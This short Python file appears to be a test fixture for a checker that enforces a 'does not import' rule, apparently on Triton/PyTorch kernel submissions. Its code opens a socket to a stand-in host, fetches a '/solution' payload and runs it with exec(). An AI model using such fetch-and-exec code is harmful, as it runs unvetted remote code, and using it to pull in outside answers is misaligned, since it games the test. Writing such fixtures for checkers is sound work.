"""check values "does not import": fetches the solution from the network.

Twin: imports_more.py
"""

import socket

import torch
import triton
import triton.language as tl

with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:
    line.sendall(b"GET /solution HTTP/1.0\r\n\r\n")
    exec(line.recv(65536))
